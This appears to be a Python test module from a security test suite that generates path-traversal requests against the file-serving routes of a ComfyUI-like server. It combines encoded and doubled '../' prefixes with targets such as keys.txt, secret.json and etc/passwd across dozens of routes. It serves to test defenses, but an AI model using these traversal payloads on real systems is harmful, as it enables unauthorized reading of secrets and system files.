"""Ways to files that a key of `view` must not see, by routes that it may use."""

from urllib.parse import quote

from hostile.target import CLOSED_FILES
from hostile.wire import request

#: Files below the data folder, files beside it, and files of the system.
WANTED = (*CLOSED_FILES, "keys.txt", "pictures/secret.json", "server.py", "main.py", "comfy/cli_args.py", "etc/passwd")

#: Ways up that a careless check takes for a path below the folder.
UP = ("../", "../../", "..%2f", "..\\", "....//", "%2e%2e/", "./../", "x/../../", "/", "~/../", "../../../../../../")

#: Routes with a path in one place, marked `@`.
ROUTES = (
    "/view?filename=@", "/view?filename=@&type=input", "/view?filename=@&type=temp", "/view?filename=x&subfolder=@",
    "/view?filename=@&preview=webp", "/view?filename=@ [input]", "/view_metadata/checkpoints?filename=@",
    "/view_metadata/@", "/userdata/@", "/userdata?dir=@&full_info=true", "/v2/userdata?path=@",
    "/experiment/models/preview/checkpoints/0/@", "/models/@", "/experiment/models/@", "/internal/files/@",
    "/settings/@", "/global_subgraphs/@", "/templates/@", "/docs/@", "/extensions/@", "/@", "/object_info/@",
    "/history/@", "/jobs/@", "/assets/@/content", "/workflow_templates/@", "/canary_pictures/@",
)  # fmt: skip

#: Folders of the files, for routes that accept only a name.
SUBFOLDERS = (
    "..", "../user/default", "../user/__manager", "../..", "/etc", "..%2fuser", ".", "../output/..", "closed",
)  # fmt: skip

TARGETS = [
    *(route.replace("@", up + wanted) for route in ROUTES for up in UP[:4] for wanted in WANTED[::2]),
    *(route.replace("@", up + wanted) for route in ROUTES[:9] for up in UP[4:] for wanted in WANTED[1::4]),
    *(route.replace("@", wanted) for route in ROUTES for wanted in WANTED[::3]),
    *(f"/userdata/{quote(up + wanted, safe='')}" for up in ("", *UP) for wanted in WANTED),
    *(f"/userdata/{quote(quote(up + wanted, safe=''), safe='')}" for up in ("", *UP[:4]) for wanted in WANTED[::2]),
    *(
        f"/view?filename={wanted.rpartition('/')[2]}&subfolder={quote(folder)}&type={kind}"
        for wanted in WANTED[::2]
        for folder in SUBFOLDERS
        for kind in ("output", "input")
    ),
]

ATTACKS = {f"GET {target} ({n})": request(f"GET {target}") for n, target in enumerate(dict.fromkeys(TARGETS))}
